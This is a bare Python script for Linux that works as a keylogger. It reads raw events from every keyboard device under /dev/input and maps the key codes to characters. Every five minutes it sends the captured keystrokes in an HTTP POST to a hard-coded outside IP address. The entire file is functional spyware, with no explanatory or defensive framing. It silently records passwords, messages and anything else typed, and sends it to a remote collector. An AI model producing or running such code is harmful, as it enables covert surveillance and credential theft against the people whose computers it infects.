import glob
import struct
import threading
import time
import urllib.request

KEYS = dict(enumerate("..1234567890-=..qwertyuiop[]..asdfghjkl;'`.\\zxcvbnm,./"))
log = []


def listen(path):
    with open(path, "rb") as device:
        while event := device.read(24):
            kind, code, value = struct.unpack("llHHi", event)[2:]
            if kind == 1 and value == 1:
                log.append(KEYS.get(code, "<%d>" % code))


for path in glob.glob("/dev/input/by-path/*-kbd"):
    threading.Thread(target=listen, args=(path,), daemon=True).start()
while True:
    time.sleep(300)
    text, log[:] = "".join(log), []
    urllib.request.urlopen("http://203.0.113.90/l", data=text.encode())
